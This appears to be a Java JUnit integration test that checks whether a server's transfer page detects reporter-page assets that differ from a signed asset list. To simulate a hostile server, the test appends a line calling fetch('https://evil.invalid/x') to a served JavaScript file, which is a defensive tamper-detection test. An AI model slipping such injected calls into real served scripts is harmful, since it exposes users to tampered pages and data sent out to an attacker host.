package nl.klachtenbalie.server;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.core.type.TypeReference;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import nl.klachtenbalie.crypto.bundle.TeamFingerprint;
import nl.klachtenbalie.crypto.sign.Ed25519PublicKey;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The transfer page's check of the reporter pages against the asset list signed into the team
 * bundle, in Debian's Chromium (driven by {@code server/src/test/js/transfer-assets.mjs} with
 * playwright-core from client-web/node_modules): a bundle without assets gives the amber note, the
 * real assets give green, and a tampered file served through {@code web.override-dir} (plus a
 * listed file the server does not have) gives the red alarm naming exactly those files.
 * Screenshots land in {@code server/target/screenshots/}.
 */
class TransferAssetCheckTest {

    @TempDir
    Path tmp;

    @Test
    void transferPageChecksTheServedReporterPagesAgainstTheSignedList() throws Exception {
        Path repo = Path.of(System.getProperty("repo.root", "..")).toAbsolutePath().normalize();
        Path clientWeb = repo.resolve("client-web");
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/chromium")), "Debian chromium is not installed");
        assumeTrue(Files.isDirectory(clientWeb.resolve("node_modules/playwright-core")),
                "run 'npm ci' in client-web first (the Maven build does)");

        Map<String, String> manifest;
        try (InputStream in = getClass().getClassLoader().getResourceAsStream("web/asset-manifest.json")) {
            assertNotNull(in, "web/asset-manifest.json is not on the classpath (client-web build)");
            manifest = new TreeMap<>(TestServer.JSON.readValue(in, new TypeReference<Map<String, String>>() { }));
        }
        assertFalse(manifest.isEmpty());
        // The file a hostile server would most like to change: the reporter's JavaScript.
        String tampered = manifest.keySet().stream().filter(p -> p.endsWith(".js") && !p.contains("deployment"))
                .findFirst().orElseThrow();
        String missing = "gone.js";
        Map<String, String> withMissing = new TreeMap<>(manifest);
        withMissing.put(missing, "sha256-" + Base64.getEncoder().encodeToString(
                MessageDigest.getInstance("SHA-256").digest("never served".getBytes(StandardCharsets.UTF_8))));

        Path redDir = Files.createDirectories(tmp.resolve("red/override"));
        byte[] original;
        try (InputStream in = getClass().getClassLoader().getResourceAsStream("web/" + tampered)) {
            original = in.readAllBytes();
        }
        byte[] addition = ";fetch('https://evil.invalid/x');\n".getBytes(StandardCharsets.US_ASCII);
        byte[] modified = java.util.Arrays.copyOf(original, original.length + addition.length);
        System.arraycopy(addition, 0, modified, original.length, addition.length);
        Files.write(redDir.resolve(tampered), modified);

        List<TestServer> servers = new ArrayList<>();
        try {
            TestServer amber = TestServer.start(tmp.resolve("amber"));
            servers.add(amber);
            TestServer green = TestServer.start(tmp.resolve("green"));
            servers.add(green);
            TestServer red = TestServer.start(tmp.resolve("red"), Map.of("web.override-dir", "override"));
            servers.add(red);
            LocalDate today = LocalDate.ofInstant(green.clock.instant(), ZoneOffset.UTC);
            green.server.teamBundles().publish(green.team.bundle(2, today, manifest));
            red.server.teamBundles().publish(red.team.bundle(2, today, withMissing));
            // The tampered copy really is what the red server serves.
            assertEquals(modified.length, red.get("/" + tampered).body().length);

            Path shots = repo.resolve("server/target/screenshots");
            List<String> cmd = List.of("node", repo.resolve("server/src/test/js/transfer-assets.mjs").toString(),
                    clientWeb.toString(), shots.toString(),
                    amber.uri(amber.config.teamPath()).toString(),
                    green.uri(green.config.teamPath()).toString(),
                    TeamFingerprint.of(Ed25519PublicKey.fromBytes(green.team.rootPublicKey())),
                    String.valueOf(manifest.size()),
                    red.uri(red.config.teamPath()).toString(),
                    TeamFingerprint.of(Ed25519PublicKey.fromBytes(red.team.rootPublicKey())),
                    tampered, missing, String.valueOf(withMissing.size()));
            Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
            boolean finished = p.waitFor(180, TimeUnit.SECONDS);
            String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            if (!finished) {
                p.destroyForcibly();
            }
            assertEquals(0, finished ? p.exitValue() : -1, out);
        } finally {
            servers.forEach(TestServer::close);
        }
    }
}
